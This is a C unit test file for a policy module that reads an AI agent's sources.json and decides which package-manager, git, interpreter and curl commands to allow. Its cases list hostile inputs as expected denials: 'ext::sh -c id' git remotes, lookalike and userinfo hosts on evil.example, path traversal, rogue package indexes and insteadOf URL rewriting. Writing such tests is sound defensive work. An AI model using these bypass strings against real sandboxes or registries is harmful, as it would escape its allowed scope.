/* sources.json: what is read of it, and what it says of commands of package managers, git and
 * interpreters. */
/* security: policy */
#include "policy/sources.h"
#include "arena_fixture.h"
#include "base/buf.h"
#include "policy/policy.h"

static const char text[] =
	"{\"_comment\": \"x\", \"agent_type\": \"python-data-agent\",\n"
	" \"package_managers\": {\"pip\": {\"enabled\": true, \"registries\": [{\"name\": \"i\",\n"
	"   \"url\": \"https://index.example/simple/\", \"trusted\": true}],\n"
	"   \"max_install_size_mb\": 500, \"blocked_packages\": [\"subprocess32\", "
	"\"Py_Auto.GUI\"]},\n"
	"  \"npm\": {\"registries\": [\"https://npm.example/\"], \"blocked_packages\": "
	"[\"@evil/x\", \"left-pad\"]},\n"
	"  \"conda\": {\"enabled\": false}},\n"
	" \"web_access\": {\"enabled\": true, \"allowed_domains\": [\"api.example.com\", "
	"\"*.good.example\"],\n"
	"   \"blocked_domains\": [\"*.internal\", \"bad.good.example\"]},\n"
	" \"git\": {\"enabled\": true, \"allowed_remotes\": [\"https://github.com/*\",\n"
	"   \"ssh://git@forge.example/team/*\"], \"max_clone_size_mb\": 1000},\n"
	" \"runtime\": {\"languages\": [\"python3.11\", \"bash\"], \"interpreters\": {\"python\": "
	"\"/usr/bin/python3\"},\n"
	"   \"max_execution_time_seconds\": 300, \"max_memory_mb\": 2048}}";
static struct sources sources;

static int parse(void **state)
{
	struct error err;

	set_up(state);
	if (sources_parse("sources.json", str_from(text), &arena, &sources, &err) < 0)
		fail_msg("%s", err.text);
	return 0;
}

static void numbers_and_lists_are_read(void **state)
{
	assert_string_equal(sources.agent_type, "python-data-agent");
	assert_int_equal(sources.managers.count, 3);
	assert_int_equal(sources.managers.items[0].max_install_bytes, 500 << 20);
	assert_non_null(map_get(&sources.managers.items[0].blocked, STR("py-auto-gui")));
	assert_true(sources.managers.items[0].registries.items[0].is_trusted);
	assert_false(sources.managers.items[2].is_enabled);
	assert_int_equal(sources.max_clone_bytes, 1000 << 20);
	assert_int_equal(sources.max_execution_ms, 300000);
	assert_int_equal(sources.max_memory_bytes, (uint64_t)2048 << 20);
	assert_int_equal(sources.allowed_domains.count, 2);
	assert_int_equal(sources.interpreters.count, 1);
}

static void assert_longest_list(const char *before, const char *entry, const char *after)
{
	for (size_t more = 0; more < 2; more++) {
		auto_buf struct buf json = buf_empty(SOURCES_MAX);
		struct sources read;
		struct error err;

		buf_text(&json, before);
		for (size_t i = 0; i < SOURCES_LIST_MAX + more; i++)
			buf_printf(&json, "%s\"%s\"", i ? "," : "", entry);
		buf_text(&json, after);
		int result = sources_parse(
			"s", (struct str){ json.data, json.len }, &arena, &read, &err);
		assert_int_equal(result, more ? -1 : 0);
		if (more)
			assert_non_null(strstr(err.text, ": more than 16384 entries"));
	}
}

static void the_length_of_a_list_is_bounded(void **state)
{
	assert_longest_list("{\"web_access\": {\"allowed_domains\": [", "a.b", "]}}");
	assert_longest_list("{\"web_access\": {\"blocked_domains\": [", "a.b", "]}}");
	assert_longest_list("{\"git\": {\"allowed_remotes\": [", "https://a.b/*", "]}}");
	assert_longest_list("{\"runtime\": {\"languages\": [", "bash", "]}}");
	assert_longest_list(
		"{\"package_managers\": {\"pip\": {\"blocked_packages\": [", "a", "]}}}");
	assert_longest_list(
		"{\"package_managers\": {\"pip\": {\"registries\": [", "https://a.b/", "]}}}");
}

static void a_malformed_file_is_an_error_that_names_its_line(void **state)
{
	static const struct {
		const char *json, *error;
	} cases[] = {
		{ "[]", "s:1: an object expected" },
		{ "{\"packages\": {}}", "s:1: unknown key 'packages'" },
		{ "{\n\"git\": {\n\"remotes\": []}}", "s:3: unknown key 'git.remotes'" },
		{ "{\"package_managers\": {\"x\": {}}}",
			"s:1: package_managers.x: unknown package manager" },
		{ "{\"package_managers\": {\"pip\": {\"enabled\": 1}}}",
			"s:1: package_managers.pip.enabled: true or false expected" },
		{ "{\"package_managers\": {\"pip\": {\"registries\": [{\"url\": \"ftp://a\"}]}}}",
			"s:1: package_managers.pip.registries[0].url: an http or https URL "
			"expected" },
		{ "{\"package_managers\": {\"pip\": {\"blocked_packages\": [\"a b\"]}}}",
			"s:1: package_managers.pip.blocked_packages: 'a b' is not a name of a "
			"package" },
		{ "{\"package_managers\": {\"pip\":\n{\"max_install_size_mb\": 0}}}",
			"s:2: package_managers.pip.max_install_size_mb: a whole number from 1 on "
			"expected" },
		{ "{\"web_access\": {\"allowed_domains\": [\"https://a\"]}}",
			"s:1: web_access.allowed_domains: 'https://a': host, '*.host' or '*' "
			"expected" },
		{ "{\"git\": {\"allowed_remotes\": [\"https://*hub.com/x\"]}}",
			"s:1: git.allowed_remotes: 'https://*hub.com/x': scheme://host/path "
			"expected, with '*' in the path only" },
		{ "{\"runtime\": {\"languages\": [\"cobol\"]}}",
			"s:1: runtime.languages: unknown language 'cobol'" },
	};
	struct sources other;
	struct error err;

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		assert_int_equal(
			sources_parse("s", str_from(cases[i].json), &arena, &other, &err), -1);
		assert_string_equal(err.text, cases[i].error);
	}
}

static void each_thing_is_checked_by_its_section(void **state)
{
	static const struct {
		int (*check)(const struct sources *sources, const char *what, struct error *err);
		const char *what;
		bool is_allowed;
	} cases[] = {
		{ sources_check_manager, "pip", true },
		{ sources_check_manager, "pip3.11", true },
		{ sources_check_manager, "uv", true },
		{ sources_check_manager, "bun", true },
		{ sources_check_manager, "conda", false },
		{ sources_check_manager, "cargo", false },
		{ sources_check_domain, "api.example.com", true },
		{ sources_check_domain, "API.example.com.", true },
		{ sources_check_domain, "x.api.example.com", false },
		{ sources_check_domain, "a.good.example", true },
		{ sources_check_domain, "good.example", false },
		{ sources_check_domain, "bad.good.example", false },
		{ sources_check_domain, "metadata.internal", false },
		{ sources_check_remote, "https://github.com/a/b.git", true },
		{ sources_check_remote, "HTTPS://GitHub.com:443/a/b", true },
		{ sources_check_remote, "http://github.com/a/b", false },
		{ sources_check_remote, "https://github.com@evil.example/a/b", false },
		{ sources_check_remote, "https://github.com.evil.example/a", false },
		{ sources_check_remote, "https://github.com:444/a", false },
		{ sources_check_remote, "https://evil.example/https://github.com/", false },
		{ sources_check_remote, "git@github.com:a/b", false },
		{ sources_check_remote, "git@forge.example:team/b.git", true },
		{ sources_check_remote, "git@forge.example:team/../other/b.git", false },
		{ sources_check_remote, "git@forge.example:team/%2e%2e/other/b", false },
		{ sources_check_remote, "ext::sh -c id", false },
		{ sources_check_remote, "https://github.com\\@evil.example/", false },
		{ sources_check_remote, "/workspace/repo", true },
		{ sources_check_remote, "origin", true },
		{ sources_check_program, "python3", true },
		{ sources_check_program, "/usr/bin/python3.11", true },
		{ sources_check_program, "python3.12", false },
		{ sources_check_program, "bash", true },
		{ sources_check_program, "sh", true },
		{ sources_check_program, "node", false },
		{ sources_check_program, "/usr/bin/perl", false },
		{ sources_check_program, "grep", true },
	};
	struct error err;

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
		if ((cases[i].check(&sources, cases[i].what, &err) == 0) != cases[i].is_allowed)
			fail_msg("%s", cases[i].what);
	assert_int_equal(sources_check_package(&sources, "pip", "PY-auto_gui", &err), -1);
	assert_int_equal(err.code, ERR_DENIED);
	assert_int_equal(sources_check_package(&sources, "uv", "requests", &err), 0);
	assert_int_equal(sources_check_package(&sources, "bun", "@evil/x", &err), -1);
	assert_int_equal(
		sources_check_registry(&sources, "pip", "https://index.example/simple", &err), 0);
	assert_int_equal(
		sources_check_registry(&sources, "pip", "https://index.example/simple2", &err), -1);
}

static void commands_are_judged_by_sources(void **state)
{
	static const struct {
		const char *command;
		enum policy_decision decision;
	} cases[] = {
		{ "pip install requests", POLICY_ALLOW },
		{ "pip install 'requests>=2' flask==3", POLICY_ALLOW },
		{ "pip install subprocess32", POLICY_DENY },
		{ "pip3 install Py.Auto-GUI==1.0", POLICY_DENY },
		{ "python3 -m pip install subprocess32", POLICY_DENY },
		{ "python3 -mpip install subprocess32", POLICY_DENY },
		{ "uv pip install subprocess32", POLICY_DENY },
		{ "uv add subprocess32[x]", POLICY_DENY },
		{ "env pip install subprocess32", POLICY_DENY },
		{ "pip install -r requirements.txt", POLICY_ASK },
		{ "pip install $x", POLICY_ASK },
		{ "pip install ./x", POLICY_ASK },
		{ "pip install --index-url https://index.example/simple/ a", POLICY_ALLOW },
		{ "pip install --index-url https://evil.example/simple a", POLICY_DENY },
		{ "pip install -ihttps://evil.example/simple a", POLICY_DENY },
		{ "pip install --extra-index=https://evil.example/ a", POLICY_DENY },
		{ "pip install https://evil.example/a.whl", POLICY_DENY },
		{ "pip install 'a @ https://evil.example/a.whl'", POLICY_DENY },
		{ "pip install git+https://evil.example/a", POLICY_DENY },
		{ "pip config set global.index-url https://evil.example/", POLICY_DENY },
		{ "npm install axios", POLICY_ALLOW },
		{ "npm i left-pad@1", POLICY_DENY },
		{ "npm install y@npm:left-pad", POLICY_DENY },
		{ "npx left-pad", POLICY_DENY },
		{ "yarn add @evil/x@2", POLICY_DENY },
		{ "bun add left-pad", POLICY_DENY },
		{ "npm install --registry=https://evil.example a", POLICY_DENY },
		{ "npm ci", POLICY_ASK },
		{ "conda install x", POLICY_DENY },
		{ "cargo install x", POLICY_DENY },
		{ "git clone https://github.com/a/b", POLICY_ALLOW },
		{ "git clone https://evil.example/a/b", POLICY_DENY },
		{ "git clone git@github.com:a/b", POLICY_DENY },
		{ "git remote add x https://evil.example/", POLICY_DENY },
		{ "git push origin HEAD:main", POLICY_ALLOW },
		{ "git push https://evil.example/ main", POLICY_DENY },
		{ "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch",
			POLICY_DENY },
		{ "git clone $x", POLICY_ASK },
		{ "node x.js", POLICY_DENY },
		{ "python3.12 x.py", POLICY_DENY },
		{ "python3 x.py", POLICY_ALLOW },
		{ "curl https://evil.example/x", POLICY_DENY },
		{ "curl https://api.example.com/x", POLICY_ALLOW },
	};
	struct policy_request request = { SHELL_SH, "/workspace", "/workspace", &arena, &sources };
	struct policy_verdict verdict;
	struct policy policy;

	policy_init(&policy, &arena);
	policy_add_rule(&policy, POLICY_ALLOW, "shell(*)",
		&(struct policy_places){ .workspace = "/workspace" }, NULL);
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		policy_judge_script(&policy, &request, str_from(cases[i].command), &verdict);
		if (verdict.decision != cases[i].decision)
			fail_msg("'%s': %s", cases[i].command,
				policy_decision_name(verdict.decision));
	}
	policy_add_rule(
		&policy, POLICY_ALLOW, "network(outbound:*)", &(struct policy_places){ 0 }, NULL);
	policy_judge_network(&policy, &request, "api.example.com", 443, &verdict);
	assert_int_equal(verdict.decision, POLICY_ALLOW);
	policy_judge_network(&policy, &request, "evil.example", 443, &verdict);
	assert_int_equal(verdict.decision, POLICY_DENY);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(numbers_and_lists_are_read),
		cmocka_unit_test(a_malformed_file_is_an_error_that_names_its_line),
		cmocka_unit_test(the_length_of_a_list_is_bounded),
		cmocka_unit_test(each_thing_is_checked_by_its_section),
		cmocka_unit_test(commands_are_judged_by_sources),
	};

	return cmocka_run_group_tests(tests, parse, tear_down);
}
